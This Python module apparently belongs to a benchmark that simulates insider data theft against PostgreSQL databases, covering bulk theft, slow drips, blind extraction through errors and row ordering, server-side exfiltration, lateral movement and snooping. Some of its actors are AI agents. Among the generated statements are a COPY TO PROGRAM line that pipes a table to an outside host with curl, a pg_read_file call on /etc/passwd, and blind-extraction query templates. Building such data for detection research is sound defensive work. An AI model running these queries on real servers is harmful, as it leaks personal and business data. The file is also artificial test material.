"""Data taken: at once, slowly, through errors and ordering, through the server's files."""

from __future__ import annotations

from bench.world import people, texts
from bench.world.act import Act, Recipe
from bench.world.calendar import DAY_US
from bench.world.relations import of, relation


def bulk_theft(act: Act) -> str:
    """3 to 30 times the actor's usual maximum within an hour; the careful take it in slices."""
    factor = 3 * 10 ** (1 - act.stealth) * act.rng.uniform(0.9, 1.3)
    wanted = factor * max(act.who.usual_most_rows, 300)
    seat = act.seat()
    prey = act.prey(act.who.home.database, 4, habits=act.rng.random() < 0.5)
    slices = max(1, round(act.between(1, 14)))
    taken = 0.0
    for n in range(40):
        target = prey[n % len(prey)]
        rows = min(target.rows, wanted / slices)
        if slices > 4:
            columns = ", ".join(target.columns)
            text = (
                f"SELECT {columns} FROM {target.said} WHERE id > 100 ORDER BY id LIMIT {rows:.0f}"
            )
        else:
            text = texts.export(act.rng, target)
        act.say(seat, text, rows, target)
        taken += rows
        if taken >= wanted:
            break
        act.wait(20, act.between(120, 240))
    return f"{taken:,.0f} rows of {', '.join(r.said for r in prey)}, {factor:.1f} x the usual most"


def slow_drip(act: Act) -> str:
    """0.2 to 1 % of a relation a query, some queries an hour, for days."""
    database = act.who.home.database
    big = [r for r in act.prey(database, 30) if 3e4 <= r.rows <= 4e6]
    target = act.rng.choice(big[:4] or [max(of(database), key=lambda r: r.rows)])
    share = act.between(0.01, 0.002)
    a_day = act.rng.randint(8, 40)
    columns = ", ".join(texts.some_columns(act.rng, target, 3))
    text = f"SELECT {columns} FROM {target.said} WHERE id BETWEEN 1000 AND 2000"
    covered, first = 0.0, act.day
    for day in range(first, first + act.rng.randint(3, 8)):
        if act.who.kind == "human" and not people.at_work(act.calendar, act.who, day):
            continue
        begin = act.calendar.at(day, act.who.start_hour)
        act.now = max(act.now, begin)
        seat = act.seat()
        for _ in range(a_day):
            act.now += act.rng.expovariate(a_day / (8.0 * DAY_US / 24))
            if act.day != day or covered >= 1:
                break
            act.say(seat, text, target.rows * share * act.rng.uniform(0.9, 1.0), target)
            covered += share
    return f"{min(covered, 1):.0%} of {target.said} in {share:.2%} a query, {a_day} queries a day"


def cryptic_exfiltration(act: Act) -> str:
    """A value a statement: in the message of an error, or one bit in the order of rows."""
    way = act.rng.choice(("cast", "division", "order", "order"))
    host = act.rng.choice(act.who.relations)
    secret = act.prey(act.who.home.database, 3)[act.rng.randrange(3)]
    column = act.rng.choice(secret.columns[1:])
    inner = f"SELECT {column} FROM {secret.said} ORDER BY id OFFSET 1 LIMIT 1"
    count = int(act.between(700, 60) * (1 if way == "order" else 0.4))
    seat = act.seat()
    pause = act.between(1, 25)
    for _ in range(count):
        if way == "cast":
            text = f"SELECT id FROM {host.said} WHERE id = CAST(({inner}) AS int)"
            act.say(seat, text, sqlstate="22P02")
        elif way == "division":
            bit = act.rng.random() < 0.5
            text = f"SELECT CASE WHEN ascii(substr(({inner})::text, 1, 1)) > 77 THEN 1 / 0 END"
            act.say(seat, text, 1, sqlstate="22012" if bit else "00000")
        else:
            picked = f"CASE WHEN ascii(substr(({inner})::text, 3, 1)) > 77"
            a, b = host.columns[0], host.columns[-1]
            text = (
                f"SELECT {a}, {b} FROM {host.said}"
                f" ORDER BY {picked} THEN {a}::text ELSE {b}::text END LIMIT 5"
            )
            act.say(seat, text, 5, host)
        act.wait(pause * 0.3, pause * 1.7)
    return f"{secret.said}.{column} by {way}, {count} statements"


def server_exfiltration(act: Act) -> str:
    """Data leaves by the server itself: a program, a file, a large object."""
    targets = act.prey(act.who.home.database, 5)
    seat = act.seat()
    if act.rng.random() < 0.6:
        act.look_around(seat, act.rng.randint(1, 4))
    count = max(1, round(act.between(6, 2)))
    for n in range(count):
        target = targets[n % len(targets)]
        text = act.rng.choice(
            (
                f"COPY {target.said} TO PROGRAM 'curl -T - https://example.net/u'",
                f"COPY (SELECT * FROM {target.said}) TO '/var/tmp/x.csv'",
                "SELECT lo_export(4711, '/var/tmp/y')",
                "SELECT pg_read_file('/etc/passwd')",
                "SELECT pg_ls_dir('.')",
            )
        )
        act.say(seat, text, target.rows if text.startswith("COPY") else 1, target)
        act.wait(15, 180)
    return f"{count} statements with the server's files and programs"


def lateral_movement(act: Act) -> str:
    """On to databases where the actor never was: logins, a look around, some reading."""
    home = act.who.home.database
    others = [name for name in ("shop", "billing", "hr", "dw", "ml") if name != home]
    act.rng.shuffle(others)
    visited = others[: max(1, round(act.between(4, 1)))]
    for name in visited:
        place = of(name)[0].place
        seat = act.seat(place)
        for _ in range(act.rng.choice((0, 0, 1, 2))):
            act.page.fail_login(seat, act.now, "28000")
            act.wait(5, 40)
        act.look_around(seat, round(act.between(8, 1)))
        for target in act.prey(name, round(act.between(10, 3))):
            refused = act.rng.random() < 0.15
            if refused:
                act.say(seat, texts.look(act.rng, target), sqlstate="42501")
            else:
                act.read(seat, target, act.rng.lognormvariate(act.between(7, 4), 1.0))
            act.wait(8, act.between(60, 200))
        act.wait(60, 600)
    return f"from {home} to {', '.join(visited)}"


def snooping(act: Act) -> str:
    """Single persons are looked up, in relations that the job does not need."""
    places = [("hr", "payroll.salary"), ("hr", "people"), ("hr", "reviews"), ("shop", "customers")]
    places += [("billing", "bank_accounts"), ("hr", "payroll.tax_data"), ("hr", "candidates")]
    mine = set(act.who.relations)
    options = [relation(d, r) for d, r in places if relation(d, r) not in mine]
    chosen = act.rng.sample(options, act.rng.randint(1, 2))
    count = round(act.between(60, 12))
    for target in chosen:
        seat = act.seat(target.place)
        text = texts.point(act.rng, target, "4711")
        for _ in range(count):
            act.say(seat, text, act.rng.randint(1, 6), target)
            act.wait(6, act.between(40, 140))
    return f"{count} look-ups each in {', '.join(r.said for r in chosen)}"


RECIPES = (
    Recipe("bulk_theft", ("analyst", "support", "dba", "ai_agent", "partner", "bi"), bulk_theft),
    Recipe(
        "slow_drip", ("analyst", "support", "partner", "ai_agent", "service"), slow_drip,
        speed="slow", days=8,
    ),
    Recipe("cryptic_exfiltration", ("service", "analyst", "ai_agent"), cryptic_exfiltration),
    Recipe("server_exfiltration", ("dba", "etl", "service"), server_exfiltration),
    Recipe(
        "lateral_movement", ("analyst", "etl", "service", "ai_agent", "support", "partner"),
        lateral_movement,
    ),
    Recipe("snooping", ("analyst", "support", "ai_agent", "dba"), snooping),
)  # fmt: skip
